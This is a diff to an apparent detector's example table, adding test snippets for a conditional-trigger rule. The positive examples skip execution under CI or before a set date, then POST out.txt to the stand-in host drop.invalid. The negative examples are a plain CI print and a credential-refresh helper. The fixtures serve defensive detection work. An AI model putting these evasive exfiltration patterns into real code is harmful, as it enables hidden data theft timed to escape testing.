@@ -351,8 +351,16 @@ ENGINE_EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] 
         (
             "import os, sys, requests\nif os.environ.get('CI'):\n    sys.exit(0)\n"
             "requests.post('https://drop.invalid/x', data=open('out.txt').read())",
+            "import sys, time, requests\nif time.time() - 1893456000 < 0:\n    sys.exit(0)\n"
+            "requests.post('https://drop.invalid/x', data=open('out.txt').read())",
         ),
-        ("import os, sys\nif os.environ.get('CI'):\n    sys.exit(0)\nprint('done')",),
+        (
+            "import os, sys\nif os.environ.get('CI'):\n    sys.exit(0)\nprint('done')",
+            "import json, time, subprocess\n\ndef fresh(creds):\n"
+            "    if creds.get('expires_at', 0) - time.time() > 60:\n        return creds\n"
+            "    subprocess.run(['python3', 'refresh_token.py'])\n"
+            "    return json.load(open('creds.json'))",
+        ),
     ),
     "flow.conditional-trigger": (
         None,
